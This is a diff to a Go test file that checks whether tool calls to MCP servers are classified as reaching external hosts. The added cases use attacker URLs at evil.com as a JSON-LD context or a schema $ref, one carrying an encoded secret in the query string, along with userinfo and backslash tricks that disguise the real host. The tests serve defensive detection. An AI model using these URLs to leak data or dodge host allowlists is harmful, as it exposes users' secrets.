@@ -190,7 +190,11 @@ func TestBuiltinBoundary(t *testing.T) {
 		{"a path with a query is no file", builtinCall{target: "stdio:npx -y acme-tracker-mcp@1.0.0", tool: "request", args: `{"path":"/orders?status=eq.paid"}`}, External, SourceEndpointInference, 0.65},
 		{"a versioned folder is a file", builtinCall{target: "stdio:npx -y acme-tracker-mcp@1.0.0", tool: "read", args: `{"path":"/home/u/v1/notes.txt"}`}, Local, SourceParameters, 0.65},
 		{"a JSON Patch path is no file", builtinCall{target: "stdio:npx -y acme-flags-mcp@1.0.0", tool: "update_flag", args: `{"patch":[{"op":"replace","path":"/environments/production/on","value":true}]}`}, External, SourceEndpointInference, 0.65},
-		{"JSON Schema and JSON-LD keywords are no target", builtinCall{target: stdioFS, tool: "validate_json", args: `{"$schema":"https://json-schema.org/draft/2020-12/schema","doc":{"@context":"https://schema.org","@id":"https://evil.com/x"}}`}, Local, SourceEndpointInference, 0.85},
+		{"JSON Schema and JSON-LD keywords are no target", builtinCall{target: stdioFS, tool: "validate_json", args: `{"$schema":"https://json-schema.org/draft/2020-12/schema","doc":{"@context":"https://schema.org","@id":"https://example.com/x"}}`}, Local, SourceEndpointInference, 0.85},
+		{"a JSON-LD context of a host not a vocabulary's is fetched", builtinCall{target: stdioFS, tool: "validate_json", args: `{"doc":{"@context":"https://evil.com/ctx?d=c2VjcmV0","name":"x"}}`}, External, SourceParameters, 0.85},
+		{"so is a schema's remote $ref", builtinCall{target: stdioFS, tool: "validate_json", args: `{"schema":{"$ref":"https://evil.com/s.json"},"doc":{}}`}, External, SourceParameters, 0.85},
+		{"a vocabulary's host in userinfo is not its host", builtinCall{target: stdioFS, tool: "validate_json", args: `{"doc":{"@context":"https://schema.org@evil.com/"}}`}, External, SourceParameters, 0.85},
+		{"nor before a backslash", builtinCall{target: stdioFS, tool: "validate_json", args: `{"doc":{"@context":"https://evil.com\\@schema.org/"}}`}, External, SourceParameters, 0.85},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
